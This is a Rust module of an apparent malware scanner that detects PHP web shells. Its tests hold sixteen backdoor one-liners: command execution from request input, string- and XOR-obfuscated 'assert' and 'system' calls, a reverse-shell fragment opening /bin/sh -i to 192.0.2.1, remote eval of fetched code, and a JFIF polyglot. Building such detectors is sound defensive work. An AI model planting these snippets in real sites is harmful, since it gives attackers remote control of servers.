//! PHP in files: programs that execute what the client sends, or that hide what they execute.

mod calls;
mod expr;
mod functions;
mod lex;
mod run;
mod value;

use run::{Offset, State};

/// Most blocks of code that are read.
const MAX_BLOCKS: usize = 4096;

/// Where PHP code in `content` executes what a client sends, or what was hidden.
pub(super) fn find(content: &[u8]) -> Option<usize> {
    let mut blocks = Vec::new();
    let mut from = 0;
    while let Some(start) = lex::next_tag(content, from).filter(|_| blocks.len() < MAX_BLOCKS) {
        let tokens = lex::tokens(&content[start..]);
        from = start + tokens.length;
        blocks.push((start, tokens));
    }
    let mut state = State::new(content.len());
    for second_pass in [false, true] {
        state.second_pass = second_pass;
        for (start, tokens) in &blocks {
            run::run(tokens, Offset::Code(*start), 0, &mut state);
            if state.found.is_some() {
                return state.found;
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::find;

    #[test]
    fn programs_that_execute_what_clients_send_are_found() {
        for code in [
            "<?php $c = trim($_POST['c']); @passthru(\"$c 2>&1\");",
            "<?php foreach (['_GET', '_POST'] as $r) { foreach ($$r as $k => $v) { $$k = $v; } } $a($b);",
            "<?php $f = 'sys'; $f .= 'tem'; $f($x);",
            "<?php ${'_' . 'GET'}['f'](${'_' . 'GET'}['a']);",
            "<?php class A { function __construct($c) { eval($c); } } new A($_COOKIE['x']);",
            "<?php $s = fsockopen('192.0.2.1', 99); proc_open('/bin/sh -i', [], $p);",
            "<?php $k = \"\\x61ssert\"; call_user_func($k, $_REQUEST['x']);",
            "<?php $f = ('!' ^ '@') . 'ssert'; $f($_GET['x']);",
            "<?php usort($_GET[1], $_GET[2]);",
            "<?php include $_GET['page'];",
            "<?php include 'data:text/plain,x';",
            "<?php fwrite(fopen('a.php', 'w'), \"<?php eval(\\$_POST[1]);\");",
            "<?php eval(file_get_contents('http://192.0.2.1/a.txt'));",
            "<?php extract($_REQUEST); $f($x);",
            "<?php function get($n) { return $_POST[$n]; } eval(get('c'));",
            "\u{0}\u{1}JFIF<?= system($_GET[0]) ?>\u{0}",
        ] {
            assert!(find(code.as_bytes()).is_some(), "{code}");
        }
    }

    #[test]
    fn programs_of_applications_pass() {
        for code in [
            "<?php $name = $_POST['name']; echo strtoupper($name); $db->exec($sql);",
            "<?php $action = $_GET['action']; $this->$action(); do_action('ajax_' . $action);",
            "<?php $id = (int) $_GET['id']; exec('report ' . $id); system('ls ' . escapeshellarg($_GET['d']));",
            "<?php $class = $_GET['c']; $x = new Handler($_POST); return call_user_func([$x, 'run'], $x);",
            "<?php $key = base64_decode($config['key']); $x = $a ^ $b; echo $key[0];",
            "<?php function run($cmd) { return shell_exec($cmd); } run('uptime');",
            "<?php assert(isset($_GET['x'])); assert($x instanceof Y); include dirname(__FILE__) . '/a.php';",
            "<?php preg_replace('/e/', $_POST['x'], $y); array_map('trim', $_POST);",
            "<?php eval('?>' . $this->compile($template));",
            "<?xml version=\"1.0\"?><a>system($_GET[1])</a>",
        ] {
            assert!(find(code.as_bytes()).is_none(), "{code}");
        }
    }
}
